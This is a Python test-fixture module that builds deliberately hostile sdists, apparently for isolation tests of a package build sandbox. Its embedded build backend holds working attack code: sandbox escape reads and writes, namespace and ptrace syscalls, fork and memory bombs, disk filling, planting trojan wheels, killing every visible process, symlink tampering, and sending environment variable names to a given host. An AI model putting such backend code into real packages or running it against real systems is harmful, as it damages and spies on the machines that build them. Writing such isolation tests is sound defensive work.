"""Hostile sdists for the isolation tests: each in-tree backend attacks the tracker and writes what it saw into its wheel.

``attack_sdist(name, version, attack, **params)`` builds a package whose backend runs ``attack``
inside the build (and, for ``hook-*`` attacks, inside get_requires_for_build_wheel);
``FINDINGS`` in the wheel's ``__init__.py`` lists what happened, e.g. ``"blocked /srv/x: ..."``.
A package may also build-require others (``requires``), for attacks that come through a build
requirement that publishes only an sdist.
"""

from __future__ import annotations

import ast
import io
import json
import tarfile
import zipfile

BACKEND = r'''
import base64, ctypes, errno, hashlib, json, os, signal, socket, subprocess, sys, time, zipfile

def _findings_of(attack):
    found = []
    note = found.append
    if attack == "escape":
        for path in PARAMS.get("read", []):
            try:
                with open(path, "rb") as handle:
                    note("read " + path + ": " + handle.read(200).decode("utf-8", "replace"))
            except OSError as exc:
                note("blocked read " + path + ": " + type(exc).__name__)
        for path in PARAMS.get("write", []):
            try:
                with open(path, "a") as handle:
                    handle.write("forged")
                note("wrote " + path)
            except OSError as exc:
                note("blocked write " + path + ": " + type(exc).__name__)
        note("root: " + ",".join(sorted(os.listdir("/"))))
    elif attack == "sockets":
        for path in PARAMS.get("unix", []):
            for where in (path, "\0" + path.lstrip("/")):
                try:
                    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
                    s.settimeout(2)
                    s.connect(where)
                    note("connected " + repr(where))
                except OSError as exc:
                    note("refused " + repr(where) + ": " + type(exc).__name__)
    elif attack == "kernel":
        libc = ctypes.CDLL(None, use_errno=True)
        def call(label, fn, *args):
            rc = fn(*args)
            note(label + (": allowed" if rc == 0 else ": refused " + errno.errorcode.get(ctypes.get_errno(), "?")))
        call("unshare user", libc.unshare, 0x10000000)
        call("unshare mount", libc.unshare, 0x00020000)
        call("mount", libc.mount, b"none", b"/tmp", b"tmpfs", 0, None)
        call("keyctl", libc.syscall, 250, 0, 0, 0, 0)  # x86_64 numbers
        call("bpf", libc.syscall, 321, 0, 0, 0)
        call("ptrace parent", libc.ptrace, 16, os.getppid(), None, None)
        proc = subprocess.run(["unshare", "-Ur", "true"], capture_output=True)
        note("unshare -Ur: " + ("allowed" if proc.returncode == 0 else "refused"))
        pid = os.fork()
        if pid == 0:
            os._exit(0)
        os.waitpid(pid, 0)
        note("fork: allowed")
    elif attack == "memory":
        children = []
        for _ in range(PARAMS["processes"]):
            pid = os.fork()
            if pid == 0:
                block = bytearray(PARAMS["mib"] << 20)
                for i in range(0, len(block), 4096):
                    block[i] = 1
                time.sleep(PARAMS.get("hold", 5))
                os._exit(0)
            children.append(pid)
        for pid in children:
            os.waitpid(pid, 0)
        note("held %d x %d MiB" % (PARAMS["processes"], PARAMS["mib"]))
    elif attack == "fill":
        for folder, count, mib in PARAMS["where"]:
            folder = folder.replace("BUILD", os.getcwd())
            os.makedirs(folder, exist_ok=True)
            try:
                for i in range(count):
                    open(os.path.join(folder, "f%d" % i), "w").close()
                with open(os.path.join(folder, "big"), "wb") as handle:
                    for _ in range(mib):
                        handle.write(b"0" * (1 << 20))
                note("filled " + folder)
            except OSError as exc:
                print("stopped in " + folder + ": " + errno.errorcode.get(exc.errno, "?"), file=sys.stderr)
                raise
    elif attack == "hog":
        for _ in range(PARAMS["spinners"]):
            if os.fork() == 0:
                os.setsid()  # each in its own session: an autogroup of its own without a cgroup
                while True:
                    pass
        time.sleep(PARAMS["seconds"])
        note("hogged")
    elif attack == "spin":
        started = time.process_time()
        while time.process_time() - started < PARAMS["cpu"]:
            pass
        note("spun")
    elif attack == "plant":
        planted = []
        for root, dirs, files in os.walk("/"):
            if root.startswith(("/proc", "/sys", "/dev", "/tmp/dist")):  # not its own wheel's folder
                dirs[:] = []
                continue
            if os.access(root, os.W_OK):
                try:
                    with open(os.path.join(root, "trojan-0.1-py3-none-any.whl"), "wb") as handle:
                        handle.write(b"trojan")
                    planted.append(root)
                except OSError:
                    pass
        # (the frontend's own random temp folder is left out: it would make the fixture unreproducible)
        note("planted in " + ",".join(sorted(p for p in planted if not p.startswith("/tmp/tmp"))))
    elif attack == "phone":
        try:
            s = socket.create_connection((PARAMS["host"], PARAMS["port"]), timeout=3)
            s.sendall(b"stolen: " + repr(sorted(os.environ)).encode())
            note("phoned home")
        except OSError as exc:
            note("could not phone home: " + type(exc).__name__)
    elif attack == "cargo":
        home = os.environ.get("CARGO_HOME", "")
        for path in [os.path.join(home, ".fetched"), os.path.dirname(home) + "/.fetched", home + ".fetched"]:
            try:
                if os.path.lexists(path):
                    os.unlink(path)
                os.symlink(PARAMS["target"], path)
                note("linked " + path)
            except OSError as exc:
                note("blocked link " + path + ": " + type(exc).__name__)
        for sub in ("registry/cache", "registry/src", "registry/index"):
            try:
                open(os.path.join(home, sub, "planted"), "w").close()
                note("wrote " + sub)
            except OSError as exc:
                note("blocked write " + sub + ": " + type(exc).__name__)
    elif attack == "links":
        for path in PARAMS["at"]:
            path = path.replace("BUILD", os.getcwd()).replace("HOME", os.environ.get("HOME", "/tmp"))
            try:
                os.makedirs(os.path.dirname(path), exist_ok=True)
                os.symlink(PARAMS["target"], path)
                note("linked " + path)
            except OSError as exc:
                note("blocked link " + path + ": " + type(exc).__name__)
    elif attack == "signals":
        me = os.getpid()
        for entry in os.listdir("/proc"):
            if entry.isdigit() and int(entry) not in (me, os.getppid(), 1):
                try:
                    os.kill(int(entry), signal.SIGKILL)
                except OSError:
                    pass
        note("saw pids " + ",".join(sorted(e for e in os.listdir("/proc") if e.isdigit())))
    elif attack == "chatty":
        for _ in range(PARAMS["mib"]):
            sys.stdout.write("x" * (1 << 20) + "\n")
        sys.stdout.flush()
    elif attack == "clock":
        note("now %d" % int(time.time()))
    elif attack == "random":
        note(os.urandom(16).hex())
    return found

def get_requires_for_build_wheel(config_settings=None):
    if HOOK:
        _findings_of(HOOK)
    return REQUIRES_AT_HOOK

def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    findings = _findings_of(ATTACK)
    dist = NAME.replace("-", "_")
    files = {
        dist + "/__init__.py": "FINDINGS = %r\n" % (findings,),
        dist + "-" + VERSION + ".dist-info/METADATA": "Metadata-Version: 2.1\nName: %s\nVersion: %s\n" % (NAME, VERSION),
        dist + "-" + VERSION + ".dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: attack\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    for member in EXTRA_MEMBERS:
        files[member] = os.urandom(8).hex()
    record = dist + "-" + VERSION + ".dist-info/RECORD"
    lines = []
    for path, text in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()
        lines.append("%s,sha256=%s,%d" % (path, digest, len(text.encode())))
    files[record] = "\n".join(lines + [record + ",,"]) + "\n"
    filename = "%s-%s-py3-none-any.whl" % (WHEEL_NAME.replace("-", "_"), VERSION)
    with zipfile.ZipFile(os.path.join(wheel_directory, filename), "w") as zf:
        for path, text in files.items():
            if ATTACK == "clock-zip":
                zf.writestr(path, text)  # a str name: zipfile dates the entry from the clock, 2 s resolution
            else:
                info = zipfile.ZipInfo(path, date_time=(1980, 1, 1, 0, 0, 0))
                info.external_attr = 0o644 << 16
                zf.writestr(info, text)
    return filename
'''

PYPROJECT = """\
[build-system]
requires = {requires}
build-backend = "backend"
backend-path = ["."]

[project]
name = "{name}"
version = "{version}"
"""


def attack_sdist(name: str, version: str, attack: str = "none", *, hook: str = "", requires: tuple[str, ...] = (),
                 requires_at_hook: tuple[str, ...] = (), wheel_name: str = "", extra_members: tuple[str, ...] = (),
                 files: dict[str, bytes] | None = None, **params: object) -> bytes:
    """An sdist whose in-tree backend runs ``attack`` in build_wheel (and ``hook`` in get_requires_for_build_wheel)."""
    top = f"{name}-{version}"
    config = (f"NAME, VERSION, ATTACK, HOOK = {name!r}, {version!r}, {attack!r}, {hook!r}\n"
              f"PARAMS = json.loads({json.dumps(params)!r})\n"
              f"REQUIRES_AT_HOOK = {list(requires_at_hook)!r}\nWHEEL_NAME = {wheel_name or name!r}\n"
              f"EXTRA_MEMBERS = {list(extra_members)!r}\n")
    backend = BACKEND.replace("def _findings_of", config + "\ndef _findings_of", 1)
    members = {
        f"{top}/pyproject.toml": PYPROJECT.format(name=name, version=version, requires=json.dumps(list(requires))).encode(),
        f"{top}/backend.py": backend.encode(),
        f"{top}/PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n".encode(),
        **{f"{top}/{path}": data for path, data in (files or {}).items()},
    }
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as tf:
        for path, data in members.items():
            info = tarfile.TarInfo(path)
            info.size, info.mode, info.mtime = len(data), 0o644, 1_600_000_000
            tf.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def findings(result) -> list[str]:
    """What the attack wrote into the first build's wheel."""
    with zipfile.ZipFile(result.builds[0].path) as archive:
        name = next(n for n in archive.namelist() if n.endswith("/__init__.py"))
        return ast.literal_eval(archive.read(name).decode().split("=", 1)[1].strip())
